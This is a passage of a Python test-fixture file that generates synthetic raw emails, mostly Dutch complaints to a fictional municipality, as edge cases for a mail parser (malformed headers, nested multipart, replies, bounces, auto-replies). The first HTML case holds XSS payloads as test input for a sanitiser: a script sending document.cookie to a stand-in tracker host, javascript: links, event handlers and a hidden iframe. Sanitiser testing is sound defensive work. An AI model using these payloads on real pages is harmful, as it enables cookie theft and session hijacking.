    "sanitiser. Expected text is visible text inside one text node.",
    expect="niet geleegd in de Voorbeeldstraat",
    has_html=True,
)
def _():
    html = U(t("""
    <!DOCTYPE html>
    <html><head><meta charset="utf-8">
    <style type="text/css">body { font-family: Arial; } .verborgen { display: none; }</style>
    <script type="text/javascript">document.location = "https://tracker.example.com/steal?c=" + document.cookie;</script>
    </head>
    <body onload="alert('xss')" style="background:url(javascript:alert(1))">
    <h1>Klacht over de afvalinzameling</h1>
    <p>Geachte gemeente,</p>
    <p>Al drie weken is de <b>groene container</b> niet geleegd in de Voorbeeldstraat.</p>
    <table border="1" cellpadding="4">
    <tr><th>Datum</th><th>Status</th></tr>
    <tr><td>6 oktober 2026</td><td>niet geleegd</td></tr>
    <tr><td>20 oktober 2026</td><td>niet geleegd</td></tr>
    <tr><td>3 november 2026</td><td>niet geleegd</td></tr>
    </table>
    <p><a href="javascript:alert(document.cookie)">Klik hier voor de foto&#39;s</a></p>
    <p class="verborgen">verborgen tekst</p>
    <img src="https://tracker.example.com/pixel.gif?id=abc123" width="1" height="1" alt="" style="display:none">
    <iframe src="https://example.com/evil" width="0" height="0"></iframe>
    <p onclick="steal()">Met vriendelijke groet,<br>Henk Testers</p>
    </body></html>
    """))
    return build(
        t("""
        From: Henk Testers <h.testers@example.org>
        To: info@voorbeeldstad.example.nl
        Subject: Klacht afvalinzameling
        Date: Tue, 10 Nov 2026 08:00:00 +0100
        Message-ID: <htmlonly.0001@example.org>
        MIME-Version: 1.0
        Content-Type: text/html; charset="utf-8"
        Content-Transfer-Encoding: quoted-printable

        """),
        qp(html),
    )


@case(
    "html-only-image",
    "text/html whose only content is a remote <img> (no text at all).",
    expect=None,
    has_html=True,
)
def _():
    return build(
        t("""
        From: Joost Dummy <joost.dummy@example.com>
        To: info@voorbeeldstad.example.nl
        Subject: foto
        Date: Tue, 10 Nov 2026 08:05:00 +0100
        Message-ID: <htmlimage.0001@example.com>
        MIME-Version: 1.0
        Content-Type: text/html; charset=us-ascii

        <html><body><img src="https://images.example.com/IMG_20261110_080012.jpg" width="800"></body></html>
        """),
        eol=LF,
    )


@case(
    "html-entities-empty-plain-alternative",
    "multipart/alternative whose text/plain part is empty (whitespace only) while the "
    "text/html part has the content, with HTML entities (&amp; &euml; &#8364; &nbsp;). "
    "An extractor must fall back to the HTML when the plain part is empty.",
    expect="stank is onacceptabel",
    has_html=True,
)
def _():
    return build(
        t("""
        From: Zoe van der Proef <zoe@example.org>
        To: info@voorbeeldstad.example.nl
        Subject: Stank riolering
        Date: Tue, 10 Nov 2026 09:00:00 +0100
        Message-ID: <emptyplain.0001@example.org>
        MIME-Version: 1.0
        Content-Type: multipart/alternative; boundary="alt-empty-plain"

        --alt-empty-plain
        Content-Type: text/plain; charset=utf-8

        \x20

        --alt-empty-plain
        Content-Type: text/html; charset=utf-8

        <html><body><p>Geachte heer, de stank is onacceptabel &amp; ongezond.</p>
        <p>Ik ben ge&euml;rgerd en heb al &#8364;&nbsp;60 aan luchtverfrissers uitgegeven.</p></body></html>
        --alt-empty-plain--
        """),
    )


@case(
    "inline-cid-image",
    "multipart/alternative > (text/plain, multipart/related > (text/html "
    "referencing cid:foto1@example.nl, image/png with Content-ID and "
    "Content-Disposition: inline)). The inline image counts as 1 attachment.",
    expect="zie de foto hieronder",
    has_html=True,
    attachments=1,
)
def _():
    return build(
        t("""
        From: Marieke Voorbeeld <marieke.voorbeeld@example.com>
        To: info@voorbeeldstad.example.nl
        Subject: Graffiti op het bushokje
        Date: Tue, 10 Nov 2026 10:00:00 +0100
        Message-ID: <cid.0001@mail.example.com>
        MIME-Version: 1.0
        Content-Type: multipart/alternative; boundary="cid-alt"

        --cid-alt
        Content-Type: text/plain; charset=utf-8

        Er staat weer graffiti op het bushokje, zie de foto hieronder.

        [foto.png]

        --cid-alt
        Content-Type: multipart/related; type="text/html"; boundary="cid-rel"

        --cid-rel
        Content-Type: text/html; charset=utf-8

        <html><body><p>Er staat weer graffiti op het bushokje, zie de foto hieronder.</p>
        <p><img src="cid:foto1@example.nl" alt="foto.png" width="1" height="1"></p></body></html>

        --cid-rel
        Content-Type: image/png; name="foto.png"
        Content-Disposition: inline; filename="foto.png"
        Content-ID: <foto1@example.nl>
        Content-Transfer-Encoding: base64

        """),
        b64(PNG_1x1),
        "--cid-rel--\n\n--cid-alt--\n",
    )


# ==========================================================================
# 6. Size / emptiness extremes
# ==========================================================================


@case(
    "huge-single-line",
    "text/plain whose body is one ~1.5 MB line with no newline anywhere in the body "
    "(file ends without a line terminator). Expected text is at the very start.",
    expect="Dit is een extreem lange regel",
)
def _():
    sentence = (
        b"Dit is een extreem lange regel zonder regeleinde over de bouwplannen aan de Havenkade. "
    )
    body = (sentence * (1_500_000 // len(sentence) + 1))[:1_500_000]
    return build(
        t("""
        From: Kees Proefmans <kees.proefmans@example.org>
        To: info@voorbeeldstad.example.nl
        Subject: Zienswijze bouwplannen Havenkade
        Date: Wed, 11 Nov 2026 02:00:00 +0100
        Message-ID: <hugeline.0001@example.org>
        MIME-Version: 1.0
        Content-Type: text/plain; charset=us-ascii
        Content-Transfer-Encoding: 7bit

        """),
        body,
        eol=LF,
    )


@case(
    "empty-body",
    "Headers followed by the blank separator line and nothing else (zero-length body).",
    expect=None,
)
def _():
    return build(
        t("""
        From: Noor Jansen <noor.jansen@example.com>
        To: info@voorbeeldstad.example.nl
        Subject: Klacht
        Date: Wed, 11 Nov 2026 08:00:00 +0100
        Message-ID: <emptybody.0001@example.com>
        MIME-Version: 1.0
        Content-Type: text/plain; charset=utf-8

        """),
    )


@case(
    "no-headers",
    "No headers at all: the file starts with the blank separator line, then an ASCII "
    "body. No From, Date, Subject or Message-ID.",
    expect="zonder headers",
)
def _():
    return build(
        "\n",
        "Dit bericht is zonder headers aangekomen. De stoep in de Molenweg is kapot.\n",
    )


@case(
    "no-subject",
    "No Subject header at all.",
    expect="geen onderwerp ingevuld",
)
def _():
    return build(
        t("""
        From: Joost Dummy <joost.dummy@example.com>
        To: info@voorbeeldstad.example.nl
        Date: Wed, 11 Nov 2026 09:00:00 +0100
        Message-ID: <nosubject.0001@example.com>
        MIME-Version: 1.0
        Content-Type: text/plain; charset=utf-8

        Sorry, ik heb geen onderwerp ingevuld. De container aan de Beukenlaan is vol.
        """),
        eol=LF,
    )


@case(
    "no-message-id",
    "No Message-ID header (deduplication must use another key, e.g. UID or hash).",
    expect="zonder Message-ID",
)
def _():
    return build(
        t("""
        From: Sanne de Proef <sanne.deproef@example.org>
        To: info@voorbeeldstad.example.nl
        Subject: Melding losliggende stoeptegels
        Date: Wed, 11 Nov 2026 10:00:00 +0100
        MIME-Version: 1.0
        Content-Type: text/plain; charset=utf-8

        Dit bericht is verstuurd zonder Message-ID. Er liggen stoeptegels los
        voor de bibliotheek.
        """),
    )


@case(
    "duplicate-message-id",
    "Two Message-ID headers with different values (broken relay). Must still be "
    "stored exactly once.",
    expect="twee Message-ID headers",
)
def _():
    return build(
        t("""
        From: Henk Testers <h.testers@example.org>
        To: info@voorbeeldstad.example.nl
        Subject: Dubbele Message-ID
        Date: Wed, 11 Nov 2026 11:00:00 +0100
        Message-ID: <dup-first.0001@example.org>
        MIME-Version: 1.0
        Message-ID: <dup-second.0002@relay.example.org>
        Content-Type: text/plain; charset=us-ascii

        Dit bericht heeft twee Message-ID headers. De brug bij de sluis klemt.
        """),
        eol=LF,
    )


@case(
    "long-folded-headers",
    "Very long headers: a Subject (~700 chars) folded over many lines, a To with 40 "
    "recipients, References with 60 message-ids each on its own folded line, and an "
    "unfolded X-Long header of 5000 characters (exceeds the RFC 5322 998 limit).",
    expect="lange headers",
)
def _():
    words = ("Klacht over de herinrichting van het Stationsplein en de gevolgen voor "
             "ondernemers bewoners fietsers en voetgangers in de binnenstad ") * 5
    subj_words = words.split()
    lines, cur = [], "Subject:"
    for w in subj_words:
        if len(cur) + 1 + len(w) > 70:
            lines.append(cur)
            cur = " " + w
        else:
            cur += " " + w
    lines.append(cur)
    subject = "\n".join(lines) + "\n"
    recipients = [f"Bewoner {i:02d} <bewoner{i:02d}@example.com>" for i in range(1, 41)]
    to = "To: " + ",\n ".join(recipients) + "\n"
    ref_ids = [f"<thread.{i:04d}@voorbeeldstad.example.nl>" for i in range(1, 61)]
    refs = "References: " + "\n ".join(ref_ids) + "\n"
    xlong = "X-Long: " + ("abcdefghij" * 500) + "\n"
    return build(
        "From: Henk Testers <h.testers@example.org>\n",
        to,
        subject,
        refs,
        xlong,
        t("""
        In-Reply-To: <thread.0060@voorbeeldstad.example.nl>
        Date: Thu, 12 Nov 2026 08:00:00 +0100
        Message-ID: <longhdr.0001@example.org>
        MIME-Version: 1.0
        Content-Type: text/plain; charset=us-ascii

        Dit bericht heeft zeer lange headers.
        """),
    )


@case(
    "missing-date",
    "No Date header at all (fall back to INTERNALDATE / received time).",
    expect="zonder datum",
)
def _():
    return build(
        t("""
        From: Noor Jansen <noor.jansen@example.com>
        To: info@voorbeeldstad.example.nl
        Subject: Geen datum
        Message-ID: <nodate.0001@example.com>
        MIME-Version: 1.0
        Content-Type: text/plain; charset=us-ascii

        Dit bericht is verstuurd zonder datum. De afvalbak bij de school is vol.
        """),
        eol=LF,
    )


@case(
    "malformed-date-text",
    "Date header in free Dutch text ('dinsdag 3 november 2026 om 10 uur') that no "
    "RFC 5322 parser understands.",
    expect="rare datum",
)
def _():
    return build(
        t("""
        From: Kees Proefmans <kees.proefmans@example.org>
        To: info@voorbeeldstad.example.nl
        Subject: Rare datum
        Date: dinsdag 3 november 2026 om 10 uur
        Message-ID: <baddate.0001@example.org>
        MIME-Version: 1.0
        Content-Type: text/plain; charset=us-ascii

        Dit bericht heeft een rare datum. De fontein op het plein lekt.
        """),
    )


@case(
    "impossible-date-values",
    "Date header syntactically RFC-like but impossible: 31 Feb, 25:61:99, timezone "
    "+9999. Parsers that build a datetime will raise ValueError.",
    expect="onmogelijke datum",
)
def _():
    return build(
        t("""
        From: Kees Proefmans <kees.proefmans@example.org>
        To: info@voorbeeldstad.example.nl
        Subject: Onmogelijke datum
        Date: Tue, 31 Feb 2026 25:61:99 +9999
        Message-ID: <impossibledate.0001@example.org>
        MIME-Version: 1.0
        Content-Type: text/plain; charset=us-ascii

        Dit bericht heeft een onmogelijke datum. Het hek van de begraafplaats is stuk.
        """),
        eol=LF,
    )


@case(
    "from-no-address",
    "From header with only a display name and no address ('From: Bezorgde Burger').",
    expect="zonder e-mailadres",
)
def _():
    return build(
        t("""
        From: Bezorgde Burger
        To: info@voorbeeldstad.example.nl
        Subject: Anoniem
        Date: Thu, 12 Nov 2026 12:00:00 +0100
        Message-ID: <fromnoaddr.0001@example.com>
        MIME-Version: 1.0
        Content-Type: text/plain; charset=us-ascii

        Ik stuur dit zonder e-mailadres. Er wordt gedeald bij het skatepark.
        """),
    )


@case(
    "from-malformed-address",
    "From header with an unclosed angle bracket and a double @ "
    "('\"Jan Voorbeeld\" <jan@@example.com'), Reply-To with only '<>', Sender "
    "with trailing garbage.",
    expect="kapot adres",
)
def _():
    return build(
        t("""
        From: "Jan Voorbeeld" <jan@@example.com
        Reply-To: <>
        Sender: jan.voorbeeld@example.com (via webmail) garbage <
        To: info@voorbeeldstad.example.nl
        Subject: Afzender met kapot adres
        Date: Thu, 12 Nov 2026 12:30:00 +0100
        Message-ID: <frombad.0001@example.com>
        MIME-Version: 1.0
        Content-Type: text/plain; charset=us-ascii

        Mijn mailprogramma zet een kapot adres in de afzender. De lift bij het
        station is weer defect.
        """),
        eol=LF,
    )


@case(
    "missing-from",
    "No From header at all (only Sender-less, Return-Path present).",
    expect="zonder afzender",
)
def _():
    return build(
        t("""
        Return-Path: <onbekend@example.org>
        To: info@voorbeeldstad.example.nl
        Subject: Geen afzender
        Date: Thu, 12 Nov 2026 13:00:00 +0100
        Message-ID: <nofrom.0001@example.org>
        MIME-Version: 1.0
        Content-Type: text/plain; charset=us-ascii

        Dit bericht is zonder afzender. Het zebrapad is niet meer zichtbaar.
        """),
    )


@case(
    "garbage-line-in-headers",
    "A line without a colon ('Dit is geen header') in the middle of the header "
    "block. Strict parsers end the header block there; Message-ID and Content-Type "
    "after it may end up in the body.",
    expect="speeltoestel",
)
def _():
    return build(
        t("""
        From: Noor Jansen <noor.jansen@example.com>
        To: info@voorbeeldstad.example.nl
        Subject: Kapot speeltoestel
        Date: Thu, 12 Nov 2026 14:00:00 +0100
        Dit is geen header
        Message-ID: <garbagehdr.0001@example.com>
        Content-Type: text/plain; charset=us-ascii

        Het speeltoestel in het Westpark is kapot en gevaarlijk.
        """),
        eol=LF,
    )


@case(
    "malformed-content-type",
    "Content-Type 'text/plain charset=utf-8' (missing ';'), so the charset "
    "parameter is lost; body is UTF-8 8bit. Decoder should treat it as text and fall "
    "back to UTF-8.",
    expect="geïrriteerd",
)
def _():
    return build(
        t("""
        From: Zoe van der Proef <zoe@example.org>
        To: info@voorbeeldstad.example.nl
        Subject: Content-Type kapot
        Date: Thu, 12 Nov 2026 15:00:00 +0100
        Message-ID: <badctype.0001@example.org>
        MIME-Version: 1.0
        Content-Type: text/plain charset=utf-8
        Content-Transfer-Encoding: 8bit

        """),
        U("Ik ben geïrriteerd over de bladblazers om 07:00 op zondag.\n"),
    )


@case(
    "mixed-line-endings",
    "Headers with CRLF, body mixing LF, CRLF and a bare CR (as produced by broken "
    "gateways). Built byte-by-byte without line-ending normalisation.",
    expect="regeleinden door elkaar",
)
def _():
    return (
        b"From: Henk Testers <h.testers@example.org>\r\n"
        b"To: info@voorbeeldstad.example.nl\r\n"
        b"Subject: Gemengde regeleinden\n"
        b"Date: Fri, 13 Nov 2026 08:00:00 +0100\r\n"
        b"Message-ID: <mixedeol.0001@example.org>\r\n"
        b"MIME-Version: 1.0\r\n"
        b"Content-Type: text/plain; charset=us-ascii\r\n"
        b"\r\n"
        b"Dit bericht heeft regeleinden door elkaar.\n"
        b"Deze regel eindigt met CRLF.\r\n"
        b"Deze regel eindigt met een kale CR.\r"
        b"De verkeerslichten bij de school staan te kort op groen.\r\n"
    )


@case(
    "nul-byte-in-body",
    "8bit UTF-8 text body containing NUL (0x00) and other C0 control bytes; "
    "PostgreSQL text columns reject NUL, so storage must handle it.",
    expect="NUL-byte",
)
def _():
    return build(
        t("""
        From: Joost Dummy <joost.dummy@example.com>
        To: info@voorbeeldstad.example.nl
        Subject: Vreemde tekens
        Date: Fri, 13 Nov 2026 09:00:00 +0100
        Message-ID: <nulbyte.0001@example.com>
        MIME-Version: 1.0
        Content-Type: text/plain; charset=utf-8
        Content-Transfer-Encoding: 8bit

        """),
        U("Hier staat een NUL-byte:\x00 en een bell\x07 en escape\x1b[31m.\n"),
        U("De parkeerautomaat aan de Havenkade slikt munten in.\n"),
        eol=LF,
    )


@case(
    "deeply-nested-multipart",
    "40 levels of nested multipart/mixed with a single text/plain leaf at the bottom "
    "(recursion / depth limits).",
    expect="diep genest",
)
def _():
    depth = 40
    head = t("""
    From: Kees Proefmans <kees.proefmans@example.org>
    To: info@voorbeeldstad.example.nl
    Subject: Diep genest
    Date: Fri, 13 Nov 2026 10:00:00 +0100
    Message-ID: <deepnest.0001@example.org>
    MIME-Version: 1.0
    """)
    out = [head, 'Content-Type: multipart/mixed; boundary="nest-00"\n\n']
    for i in range(depth):
        out.append(f"--nest-{i:02d}\n")
        if i + 1 < depth:
            out.append(f'Content-Type: multipart/mixed; boundary="nest-{i + 1:02d}"\n\n')
        else:
            out.append("Content-Type: text/plain; charset=us-ascii\n\n")
            out.append("Dit bericht is diep genest. De waterpomp op het plein werkt niet.\n")
    for i in reversed(range(depth)):
        out.append(f"--nest-{i:02d}--\n")
    return build(*out)


# ==========================================================================
# 7. Replies, quoting and signatures
# ==========================================================================


@case(
    "reply-dutch-gmail-quote",
    "Gmail-style Dutch reply: new text, 'Met vriendelijke groet,' signature, then "
    "'Op di 3 nov 2026 om 10:12 schreef ... <\\ninfo@...>:' (attribution wrapped over "
    "two lines) and '>' / '> >' quoting. multipart/alternative with gmail_quote HTML.",
    expect="mijn moeder er over gestruikeld",
    has_html=True,
)
def _():
    return build(
        t("""
        From: Marieke Voorbeeld <marieke.voorbeeld@example.com>
        To: Gemeente Voorbeeldstad <info@voorbeeldstad.example.nl>
        Subject: Re: Uw melding M-2026-2044
        Date: Tue, 03 Nov 2026 20:05:00 +0100
        Message-ID: <CAFakeGmail0001=xyz@mail.example.com>
        In-Reply-To: <m2026-2044.reactie@voorbeeldstad.example.nl>
        References: <m2026-2044@example.com> <m2026-2044.reactie@voorbeeldstad.example.nl>
        MIME-Version: 1.0
        Content-Type: multipart/alternative; boundary="000000000000f00dcafe"

        --000000000000f00dcafe
        Content-Type: text/plain; charset="UTF-8"
        Content-Transfer-Encoding: quoted-printable

        Beste meneer Testers,

        Dank voor uw reactie, maar dit lost mijn probleem niet op. De stoeptegels
        liggen er nog steeds los. Gisteren is mijn moeder er over gestruikeld.

        Met vriendelijke groet,
        Marieke Voorbeeld
        06-12345678

        Op di 3 nov 2026 om 10:12 schreef Gemeente Voorbeeldstad <
        info@voorbeeldstad.example.nl>:

        > Geachte mevrouw Voorbeeld,
        >
        > Wij hebben uw melding in behandeling genomen. De stoeptegels liggen er
        > nog steeds los volgens onze inspecteur, maar herstel staat gepland.
        >
        > > Op ma 2 nov 2026 om 08:00 schreef Marieke Voorbeeld:
        > > Er liggen stoeptegels los in de Voorbeeldstraat.
        >
        > Met vriendelijke groet,
        > Henk Testers
        > Team Openbare Ruimte
        >

        --000000000000f00dcafe
        Content-Type: text/html; charset="UTF-8"
        Content-Transfer-Encoding: quoted-printable

        <div dir=3D"ltr">Beste meneer Testers,<div><br></div><div>Dank voor uw reac=
        tie, maar dit lost mijn probleem niet op. De stoeptegels liggen er nog stee=
        ds los. Gisteren is mijn moeder er over gestruikeld.</div><div><br></div><d=
        iv>Met vriendelijke groet,<br>Marieke Voorbeeld<br>06-12345678</div></div><=
        br><div class=3D"gmail_quote"><div dir=3D"ltr" class=3D"gmail_attr">Op di 3=
         nov 2026 om 10:12 schreef Gemeente Voorbeeldstad &lt;<a href=3D"mailto:inf=
        o@voorbeeldstad.example.nl">info@voorbeeldstad.example.nl</a>&gt;:<br></div=
        ><blockquote class=3D"gmail_quote" style=3D"margin:0px 0px 0px 0.8ex;border=
        -left:1px solid rgb(204,204,204);padding-left:1ex">Geachte mevrouw Voorbeel=
        d,<br><br>Wij hebben uw melding in behandeling genomen.<br></blockquote></d=
        iv>

        --000000000000f00dcafe--
        """),
    )


@case(
    "reply-english-quote-signature",
    "English reply, text/plain format=flowed (soft line breaks marked by trailing "
    "space), 'On Tue, 3 Nov 2026 at 10:12, ... wrote:' attribution, '>' quoting and "
    "a '-- ' (dash dash space) signature separator.",
    expect="still waiting for the refund",
)
def _():
    return build(
        t("""
        From: John Example <john.example@example.com>
        To: Municipality of Voorbeeldstad <info@voorbeeldstad.example.nl>
        Subject: Re: Your request regarding the parking permit refund
        Date: Tue, 03 Nov 2026 18:30:00 +0100
        Message-ID: <reply-en.0001@example.com>
        In-Reply-To: <refund.0001@voorbeeldstad.example.nl>
        MIME-Version: 1.0
        Content-Type: text/plain; charset=utf-8; format=flowed
        Content-Transfer-Encoding: 8bit

        Dear Sir or Madam,

        Thank you for your answer. However, I am still waiting for the refund.\x20
        It has now been more than six weeks since I cancelled my permit and I\x20
        would like to file a formal complaint.

        On Tue, 3 Nov 2026 at 10:12, Municipality of Voorbeeldstad
        <info@voorbeeldstad.example.nl> wrote:
        > Dear Mr Example,
        >
        > Your refund has been processed and will be paid within 5 working days.
        >
        > Kind regards,
        > Customer Contact Centre

        --\x20
        John Example
        Tel. 06-12345678
        Sent from my phone
        """),
        eol=LF,
    )


@case(
    "reply-outlook-oorspronkelijk-bericht",
    "Dutch Outlook reply in iso-8859-1 quoted-printable (=EB escapes) with a "
    "'-----Oorspronkelijk bericht-----' block (Van:/Verzonden:/Aan:/Onderwerp:) "
    "and a 'Met vriendelijke groet,' signature.",
    expect="geërgerd",
)
def _():
    text = L(t("""
    Geachte heer Testers,

    Ik ben zeer geërgerd over de afhandeling van mijn klacht. Ik wil graag een
    gesprek met de wethouder.

    Met vriendelijke groet,

    Pieter Testerman
    Testerman Rijwielen

    -----Oorspronkelijk bericht-----
    Van: Testers, Henk <h.testers@voorbeeldstad.example.nl>
    Verzonden: dinsdag 3 november 2026 10:12
    Aan: Pieter Testerman <pieter@testerman-rijwielen.example.com>
    Onderwerp: RE: Klacht wegwerkzaamheden

    Geachte heer Testerman,

    Wij hebben uw klacht ontvangen en nemen deze in behandeling.

    Met vriendelijke groet,
    Henk Testers
    """))
    return build(
        t("""
        From: Pieter Testerman <pieter@testerman-rijwielen.example.com>
        To: "Testers, Henk" <h.testers@voorbeeldstad.example.nl>
        Subject: RE: Klacht wegwerkzaamheden
        Date: Tue, 03 Nov 2026 16:40:00 +0100
        Message-ID: <AM0PR01MB0000000000000000000000000000@AM0PR01MB0000.eurprd01.prod.example.com>
        Thread-Topic: Klacht wegwerkzaamheden
        Thread-Index: AQHZfakeAAAAAAAAAAAAAAAAAAAAAA==
        Content-Language: nl-NL
        MIME-Version: 1.0
        Content-Type: text/plain; charset="iso-8859-1"
        Content-Transfer-Encoding: quoted-printable

        """),
        qp(text),
    )


@case(
    "reply-outlook-english-from-sent",
    "English Outlook reply, multipart/alternative, with an underscore separator and "
    "'From: ... Sent: ... To: ... Subject:' block, followed by an Outlook HTML "
    "part (mso styles, conditional comments).",
    expect="bin collection is still missed",
    has_html=True,
)
def _():
    return build(
        t("""
        From: John Example <john.example@example.com>
        To: info@voorbeeldstad.example.nl
        Subject: RE: Missed bin collection
        Date: Wed, 04 Nov 2026 09:10:00 +0000
        Message-ID: <DB9PR02MB0000000000000000000000000001@DB9PR02MB0000.eurprd02.prod.example.com>
        Thread-Topic: Missed bin collection
        Accept-Language: en-GB, nl-NL
        Content-Language: en-GB
        MIME-Version: 1.0
        Content-Type: multipart/alternative;
        \tboundary="_000_DB9PR02MB0000_"

        --_000_DB9PR02MB0000_
        Content-Type: text/plain; charset="us-ascii"
        Content-Transfer-Encoding: quoted-printable

        Hello,

        Our bin collection is still missed every other week. This is the fourth tim=
        e I am reporting it.

        Regards,
        John Example

        ________________________________
        From: Municipality of Voorbeeldstad <info@voorbeeldstad.example.nl>
        Sent: Tuesday, November 3, 2026 10:12 AM
        To: John Example <john.example@example.com>
        Subject: Missed bin collection

        Dear Mr Example,

        We have passed your report on to our waste collection contractor.

        Kind regards,
        Customer Contact Centre

        --_000_DB9PR02MB0000_
        Content-Type: text/html; charset="us-ascii"
        Content-Transfer-Encoding: quoted-printable

        <html xmlns:o=3D"urn:schemas-microsoft-com:office:office"><head>
        <meta http-equiv=3D"Content-Type" content=3D"text/html; charset=3Dus-ascii">
        <style><!--
        p.MsoNormal {margin:0cm; font-size:11.0pt; font-family:"Calibri",sans-serif;}
        --></style><!--[if gte mso 9]><xml><o:shapedefaults v:ext=3D"edit" spidmax=
        =3D"1026" /></xml><![endif]-->
        </head><body lang=3D"EN-GB"><div class=3D"WordSection1">
        <p class=3D"MsoNormal">Hello,</p>
        <p class=3D"MsoNormal">Our bin collection is still missed every other week.=
         This is the fourth time I am reporting it.</p>
        <p class=3D"MsoNormal">Regards,<br>John Example</p>
        <div style=3D"border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm =
        0cm 0cm"><p class=3D"MsoNormal"><b>From:</b> Municipality of Voorbeeldstad =
        &lt;info@voorbeeldstad.example.nl&gt;<br><b>Sent:</b> Tuesday, November 3,=
         2026 10:12 AM<br><b>Subject:</b> Missed bin collection</p></div>
        </div></body></html>

        --_000_DB9PR02MB0000_--
        """),
    )


# ==========================================================================
# 8. Automated mail (and look-alikes that are NOT automated)
# ==========================================================================


@case(
    "auto-dsn-bounce",
    "Postfix-style DSN: multipart/report; report-type=delivery-status with text/plain, "
    "message/delivery-status and text/rfc822-headers parts. Only automation signal is "
    "the report type (no Return-Path, no Auto-Submitted).",
    automated=True,
    expect="User unknown",
)
def _():
    return build(
        t("""
        From: MAILER-DAEMON@mail.voorbeeldstad.example.nl (Mail Delivery System)
        To: info@voorbeeldstad.example.nl
        Subject: Undelivered Mail Returned to Sender
        Date: Fri, 13 Nov 2026 11:00:00 +0100 (CET)
        Message-ID: <20261113100000.ABC123@mail.voorbeeldstad.example.nl>
        MIME-Version: 1.0
        Content-Type: multipart/report; report-type=delivery-status;
        \tboundary="ABC123.1763028000/mail.voorbeeldstad.example.nl"

        This is a MIME-encapsulated message.

        --ABC123.1763028000/mail.voorbeeldstad.example.nl
        Content-Description: Notification
        Content-Type: text/plain; charset=us-ascii

        This is the mail system at host mail.voorbeeldstad.example.nl.

        I'm sorry to have to inform you that your message could not
        be delivered to one or more recipients. It's attached below.

        <burger@example.com>: host mx.example.com[192.0.2.25] said: 550 5.1.1
            <burger@example.com>: Recipient address rejected: User unknown

        --ABC123.1763028000/mail.voorbeeldstad.example.nl
        Content-Description: Delivery report
        Content-Type: message/delivery-status

        Reporting-MTA: dns; mail.voorbeeldstad.example.nl
        X-Postfix-Queue-ID: ABC123
        X-Postfix-Sender: rfc822; info@voorbeeldstad.example.nl
        Arrival-Date: Fri, 13 Nov 2026 10:59:58 +0100 (CET)

        Final-Recipient: rfc822; burger@example.com
        Original-Recipient: rfc822;burger@example.com
        Action: failed
        Status: 5.1.1
        Remote-MTA: dns; mx.example.com
        Diagnostic-Code: smtp; 550 5.1.1 <burger@example.com>: Recipient address
            rejected: User unknown

        --ABC123.1763028000/mail.voorbeeldstad.example.nl
        Content-Description: Undelivered Message Headers
        Content-Type: text/rfc822-headers

        Return-Path: <info@voorbeeldstad.example.nl>
        From: Gemeente Voorbeeldstad <info@voorbeeldstad.example.nl>
        To: burger@example.com
        Subject: Ontvangstbevestiging van uw klacht
        Date: Fri, 13 Nov 2026 10:59:57 +0100
        Message-ID: <bevestiging.4242@voorbeeldstad.example.nl>

        --ABC123.1763028000/mail.voorbeeldstad.example.nl--
        """),
    )


@case(
    "auto-bounce-empty-return-path",
    "qmail-style plain-text bounce, not multipart/report. Only automation signal is "
    "'Return-Path: <>' (null reverse-path).",
    automated=True,
    expect="qmail-send program",
)
def _():
    return build(
        t("""
        Return-Path: <>
        From: MAILER-DAEMON@mail.example.org
        To: info@voorbeeldstad.example.nl
        Subject: failure notice
        Date: 13 Nov 2026 10:12:13 -0000
        Message-ID: <qmailbounce.0001@mail.example.org>

        Hi. This is the qmail-send program at mail.example.org.
        I'm afraid I wasn't able to deliver your message to the following addresses.
        This is a permanent error; I've given up. Sorry it didn't work out.

        <oudadres@example.org>:
        Sorry, no mailbox here by that name. (#5.1.1)

        --- Below this line is a copy of the message.

        Return-Path: <info@voorbeeldstad.example.nl>
        From: Gemeente Voorbeeldstad <info@voorbeeldstad.example.nl>
        To: oudadres@example.org
        Subject: Uw klacht

        Geachte heer/mevrouw, wij hebben uw klacht ontvangen.
        """),
        eol=LF,
    )


@case(
    "auto-exchange-out-of-office",
    "Exchange out-of-office: Subject 'Automatisch antwoord: ...', Auto-Submitted: "
    "auto-replied, X-Auto-Response-Suppress: All, multipart/alternative.",
    automated=True,
    expect="afwezig tot en met",
    has_html=True,
)
def _():
    return build(
        t("""
        From: Henk Testers <h.testers@example.org>
        To: Gemeente Voorbeeldstad <info@voorbeeldstad.example.nl>
        Subject: Automatisch antwoord: Ontvangstbevestiging van uw klacht
        Thread-Topic: Ontvangstbevestiging van uw klacht
        Date: Fri, 13 Nov 2026 10:15:00 +0000
        Message-ID: <oof.0001@EXCH01.example.org>
        In-Reply-To: <bevestiging.4243@voorbeeldstad.example.nl>
        Auto-Submitted: auto-replied
        X-Auto-Response-Suppress: All
        X-MS-Exchange-Inbox-Rules-Loop: h.testers@example.org
        X-MS-Exchange-Organization-AutoReply: 1
        Content-Language: nl-NL
        MIME-Version: 1.0
        Content-Type: multipart/alternative; boundary="_000_oof_"

        --_000_oof_
        Content-Type: text/plain; charset="us-ascii"

        Ik ben afwezig tot en met maandag 16 november 2026. Uw bericht wordt niet
        doorgestuurd. Voor dringende zaken kunt u bellen met 06-12345678.

        --_000_oof_
        Content-Type: text/html; charset="us-ascii"

        <html><body><p>Ik ben afwezig tot en met maandag 16 november 2026. Uw bericht wordt niet
        doorgestuurd. Voor dringende zaken kunt u bellen met 06-12345678.</p></body></html>

        --_000_oof_--
        """),
    )


@case(
    "auto-x-autoreply",
    "Vacation reply whose only automation signal is 'X-Autoreply: yes'.",
    automated=True,
    expect="automatisch antwoord",
)
def _():
    return build(
        t("""
        From: Sanne de Proef <sanne.deproef@example.org>
        To: info@voorbeeldstad.example.nl
        Subject: Re: Uw aanvraag parkeervergunning
        Date: Fri, 13 Nov 2026 10:20:00 +0100
        Message-ID: <xautoreply.0001@example.org>
        X-Autoreply: yes
        MIME-Version: 1.0
        Content-Type: text/plain; charset=utf-8

        Dit is een automatisch antwoord. Ik ben op vakantie tot 20 november.
        """),
        eol=LF,
    )


@case(
    "auto-precedence-auto-reply",
    "Vacation reply whose only automation signal is 'Precedence: auto_reply'.",
    automated=True,
    expect="niet op kantoor",
)
def _():
    return build(
        t("""
        From: Noor Jansen <noor.jansen@example.com>
        To: info@voorbeeldstad.example.nl
        Subject: Re: Uw melding
        Date: Fri, 13 Nov 2026 10:25:00 +0100
        Message-ID: <precautoreply.0001@example.com>
        Precedence: auto_reply
        MIME-Version: 1.0
        Content-Type: text/plain; charset=utf-8

        Ik ben deze week niet op kantoor en lees mijn mail beperkt.
        """),
    )


@case(
    "auto-x-auto-response-suppress-only",
    "Auto-reply whose only automation signal is 'X-Auto-Response-Suppress: All' "
    "(as Outlook/Exchange sets on generated mail).",
    automated=True,
